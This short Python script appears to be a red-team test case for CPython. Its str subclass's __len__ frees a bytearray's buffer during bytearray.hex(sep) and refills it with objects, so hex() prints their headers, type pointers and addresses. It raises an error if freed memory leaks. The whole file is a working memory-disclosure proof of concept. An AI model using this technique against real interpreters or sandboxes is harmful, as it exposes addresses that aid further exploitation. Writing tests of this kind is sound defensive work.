# technique: bytearray.hex(sep) takes the buffer pointer and length, then calls len(sep): a str subclass's __len__ clears the bytearray (its buffer freed) and fills the hole with objects, which hex() prints: their headers, type pointers and the addresses they hold (red-team pass 68)
# expect: any
import struct
target = object()
class P:
    __slots__ = ('a', 'b', 'c', 'd')   # 16 GC + 16 header + 32 = 64 bytes, the hole's size class
keep = []
class S(str):
    def __len__(self):
        ba.clear()                      # frees the 57-byte buffer
        for i in range(64):
            p = P(); p.a = None; p.b = True; p.c = p.d = target
            keep.append(p)
        return 1
ba = bytearray(b'A' * 56)
h = ba.hex(S(':'), 8).split(':')
words = [struct.unpack('<Q', bytes.fromhex(w))[0] for w in h]
print([hex(w) for w in words])
x = 1
if any(w != 0x4141414141414141 for w in words):
    raise RuntimeError('hex() printed freed memory')
